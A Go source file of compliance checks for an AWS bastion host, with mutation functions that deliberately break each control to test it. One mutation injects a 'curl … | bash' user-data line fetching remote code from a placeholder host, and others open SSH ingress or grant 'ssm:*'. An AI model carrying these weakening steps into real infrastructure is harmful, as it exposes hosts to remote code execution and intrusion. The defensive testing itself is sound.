package controls

import (
	"fmt"
	"slices"
	"strings"

	"padron/infra/cfn"
)

const (
	typeEC2      = "AWS::EC2::Instance"
	typeDocument = "AWS::SSM::Document"
)

func bastionControls() []Control {
	return slices.Concat(wayInControls(), instanceOfBastionControls(), sessionControls(), checkControls())
}

func wayInControls() []Control {
	return []Control{
		{
			ID: "bastion.no-way-in", What: "nothing may open a connection to the bastion",
			PCI: []string{"1.3.1", "1.4.2"}, NIST: []string{"AC-4", "AC-17", "SC-7"}, CIS: []string{"5.2"},
			Check:  noWayIn,
			Remove: openBastion,
		},
		{
			ID: "bastion.no-key", What: "nobody logs in to the bastion with a key or a public address",
			PCI: []string{"8.3.2", "1.4.4"}, NIST: []string{"AC-17", "IA-2"},
			Check: every(typeEC2, func(r *cfn.Resource) string {
				if r.Get("KeyName") != nil || r.Get("NetworkInterfaces") != nil {
					return "has a key, or interfaces of its own"
				}
				if subnet := r.Target("SubnetId"); subnet == nil || !strings.Contains(subnet.Path(), "private") {
					return "is not in a private subnet"
				}
				return ""
			}),
			Remove: set(typeEC2, "KeyName", "operators"),
		},
		{
			ID: "bastion.metadata", What: "the bastion's credentials cannot be had by a forged request (IMDSv2)",
			PCI: []string{"2.2.6"}, NIST: []string{"AC-3", "CM-7"}, CIS: []string{"5.6"},
			Check: every(typeEC2, func(r *cfn.Resource) string {
				template := r.Target("LaunchTemplate", "Version") // the name is a text, as cdk-nag wants it
				if template == nil {
					return "has no launch template"
				}
				return are(map[string]string{
					"LaunchTemplateData.MetadataOptions.HttpTokens":              "required",
					"LaunchTemplateData.MetadataOptions.HttpPutResponseHopLimit": "1"})(template)
			}),
			Remove: put("AWS::EC2::LaunchTemplate", "Metadata", "optional", "LaunchTemplateData", "MetadataOptions", "HttpTokens"),
		},
	}
}

func instanceOfBastionControls() []Control {
	return []Control{
		{
			ID: "bastion.encrypted", What: "the bastion's volume is encrypted",
			PCI: []string{"3.5.1"}, NIST: []string{"SC-28"}, CIS: []string{"2.2.1"},
			Check: every(typeEC2, is("true", "BlockDeviceMappings", "0", "Ebs", "Encrypted")),
			Remove: func(e *Estate) int {
				disks := objects(e.Find(typeEC2, "Instance").Properties["BlockDeviceMappings"])
				for _, d := range disks {
					ebs, _ := d["Ebs"].(map[string]any)
					delete(ebs, "Encrypted")
				}
				return len(disks)
			},
		},
		{
			ID: "bastion.fetches-nothing", What: "the bastion runs nothing at its start that comes from elsewhere",
			PCI: []string{"6.3.2"}, NIST: []string{"CM-7", "SI-7"},
			Check: every(typeEC2, func(r *cfn.Resource) string {
				script := fmt.Sprint(r.Properties["UserData"])
				for _, fetch := range []string{"http", "curl", "wget", "dnf", "yum", "aws ", "git"} {
					if strings.Contains(script, fetch) {
						return "its first script has " + fetch
					}
				}
				return ""
			}),
			Remove: set(typeEC2, "UserData", map[string]any{"Fn::Base64": "#!/bin/bash\ncurl -s https://tools.example.com | bash\n"}),
		},
		{
			ID: "bastion.asleep", What: "the bastion is stopped every evening, by a role that can stop nothing else",
			PCI: []string{"2.2.4", "7.2.5"}, NIST: []string{"AC-6", "CM-7"},
			Check:  stopped,
			Remove: put(typeSchedule, "Evening", "DISABLED", "State"),
		},
		{
			ID: "bastion.watched", What: "the bastion is measured in detail and not terminated by mistake",
			NIST:   []string{"CA-7", "SI-4"},
			Check:  every(typeEC2, are(map[string]string{"Monitoring": "true", "DisableApiTermination": "true"})),
			Remove: set(typeEC2, "Monitoring", false),
		},
	}
}

// stopped checks that the schedule stops the instance and may stop no other.
func stopped(e *Estate) []string {
	instance := e.Find(typeEC2, "Instance")
	if instance == nil {
		return []string{"there is no bastion"}
	}
	check := one(typeSchedule, "Evening", func(r *cfn.Resource) string {
		if !strings.Contains(r.Text("Target", "Input"), cfn.Reference{Resource: instance}.String()) {
			return "does not stop the bastion"
		}
		return are(map[string]string{"State": "ENABLED", "Target.Arn": "arn:aws:scheduler:::aws-sdk:ec2:stopInstances"})(r)
	})
	return slices.Concat(check(e), allowedOnly("ec2:StopInstances", "instance/"+cfn.Reference{Resource: instance}.String(), "bastion-evening")(e))
}

// noWayIn checks that the bastion's only groups have no rule for incoming
// connections, of their own or beside them.
func noWayIn(e *Estate) []string {
	return every(typeEC2, func(r *cfn.Resource) string {
		groups := cfn.Targets(r.Get("SecurityGroupIds"))
		if len(groups) == 0 {
			return "is in no group of the estate"
		}
		for _, g := range groups {
			if len(g.List("SecurityGroupIngress")) > 0 {
				return "its group lets connections in"
			}
			for _, rule := range e.Resources("AWS::EC2::SecurityGroupIngress") {
				if rule.Target("GroupId") == g {
					return rule.String() + " lets connections in"
				}
			}
		}
		return ""
	})(e)
}

func openBastion(e *Estate) int {
	g := e.Find("AWS::EC2::SecurityGroup", "BastionGroup")
	g.Properties["SecurityGroupIngress"] = []any{map[string]any{
		"CidrIp": "10.0.0.0/24", "IpProtocol": "tcp", "FromPort": float64(22), "ToPort": float64(22),
	}}
	return 1
}

func sessionControls() []Control {
	inputs := []string{"Content", "inputs"}
	return []Control{
		{
			ID: "bastion.sessions-kept", What: "what is typed at the bastion is kept, encrypted, in a bucket and a log",
			PCI: []string{"10.2.1.2", "10.3.1"}, NIST: []string{"AC-17", "AU-12", "AU-14"},
			Check: one(typeDocument, "Session", func(r *cfn.Resource) string {
				if r.Target(append(inputs, "s3BucketName")...) == nil || r.Target(append(inputs, "cloudWatchLogGroupName")...) == nil {
					return "sessions are not written down"
				}
				return are(map[string]string{
					"Content.inputs.s3EncryptionEnabled": "true", "Content.inputs.cloudWatchEncryptionEnabled": "true",
					"Content.inputs.cloudWatchStreamingEnabled": "true"})(r)
			}),
			Remove: put(typeDocument, "Session", "", append(inputs, "s3BucketName")...),
		},
		{
			ID: "bastion.sessions-end", What: "a session ends after 15 idle minutes",
			PCI: []string{"8.2.8"}, NIST: []string{"AC-11", "AC-12"},
			Check:  one(typeDocument, "Session", is("15", append(inputs, "idleSessionTimeout")...)),
			Remove: put(typeDocument, "Session", "60", append(inputs, "idleSessionTimeout")...),
		},
		{
			ID: "bastion.only-sessions", What: "the bastion itself can keep sessions and read its tools, and nothing else",
			PCI: []string{"7.2.2", "7.2.5"}, NIST: []string{"AC-6"},
			Check: bastionMay,
			Remove: func(e *Estate) int {
				p := e.Find("AWS::IAM::ManagedPolicy", "BastionPolicy")
				policyStatements(p)[0]["Action"] = "ssm:*"
				return 1
			},
		},
		{
			ID: "bastion.people-by-document", What: "people open only sessions that are written down",
			PCI: []string{"7.2.2", "10.2.1.2"}, NIST: []string{"AC-3", "AC-17"},
			Check: one("AWS::IAM::ManagedPolicy", "People", func(p *cfn.Resource) string {
				for _, s := range policyStatements(p) {
					document := strings.Contains(fmt.Sprint(p.Stack.Resolve(s["Resource"])), "document/${bastion.Session}")
					if s["Action"] == "ssm:StartSession" && document && strings.Contains(fmt.Sprint(s["Condition"]), "ssm:SessionDocumentAccessCheck:true") {
						return ""
					}
				}
				return "lets people open sessions with any document"
			}),
			Remove: func(e *Estate) int {
				p := e.Find("AWS::IAM::ManagedPolicy", "People")
				delete(policyStatements(p)[0], "Condition")
				return 1
			},
		},
	}
}

// bastionActions are all that the instance's role may do.
var bastionActions = []string{
	"logs:CreateLogStream", "logs:DescribeLogGroups", "logs:DescribeLogStreams", "logs:PutLogEvents",
	"s3:GetEncryptionConfiguration", "s3:GetObject", "s3:PutObject", "ssm:UpdateInstanceInformation",
	"ssmmessages:CreateControlChannel", "ssmmessages:CreateDataChannel", "ssmmessages:OpenControlChannel", "ssmmessages:OpenDataChannel",
}

func bastionMay(e *Estate) []string {
	role := e.Find("AWS::IAM::Role", "bastion")
	if role == nil {
		return []string{"there is no role bastion"}
	}
	var wrong []string
	for _, action := range actionsOf(e, role) {
		if !slices.Contains(bastionActions, action) {
			wrong = append(wrong, "the bastion may "+action)
		}
	}
	return wrong
}

// actionsOf returns everything that the estate's policies let the role do,
// sorted. Policies of AWS's own are named by their ARN.
func actionsOf(e *Estate, role *cfn.Resource) []string {
	var all []string
	for _, p := range e.Resources("AWS::IAM::ManagedPolicy", "AWS::IAM::Policy") {
		if !slices.Contains(cfn.Targets(p.Get("Roles")), role) {
			continue
		}
		for _, s := range policyStatements(p) {
			if s["Effect"] == "Allow" {
				all = append(all, several(s["Action"])...)
			}
		}
	}
	for _, arn := range role.List("ManagedPolicyArns") {
		all = append(all, fmt.Sprint(arn))
	}
	slices.Sort(all)
	return slices.Compact(all)
}
